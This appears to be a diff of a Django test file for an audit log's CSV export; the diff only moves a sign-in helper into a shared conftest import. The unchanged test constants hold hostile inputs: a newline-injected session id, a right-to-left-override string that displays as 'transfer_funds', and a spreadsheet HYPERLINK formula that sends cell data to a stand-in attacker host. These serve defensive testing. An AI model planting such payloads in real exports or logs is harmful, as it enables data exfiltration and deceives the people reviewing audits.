@@ -10,7 +10,6 @@ from __future__ import annotations
 import csv
 import io
 import json
-from typing import Any
 
 import pytest
 from django.test import Client
@@ -20,19 +19,13 @@ from audit.export import csv_cell_unescape
 from audit.models import Alert, AuditEntry
 from core.display import mark_invisible, unmark_invisible
 from tests.audit.entries import append, event
-from tests.conftest import Bank, agent_client, transfer_call
+from tests.conftest import Bank, agent_client, signed_in, transfer_call
 
 pytestmark = pytest.mark.django_db
 
 NEWLINE_SESSION = "sess-nl\n"
 SPOOFED_TOOL = "\u202esdnuf_refsnart"  # reads as "transfer_funds"
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
-
-
-def signed_in(user: Any) -> Client:
-    client = Client()
-    client.force_login(user)
-    return client
 
 
 def hostile_entry() -> AuditEntry:
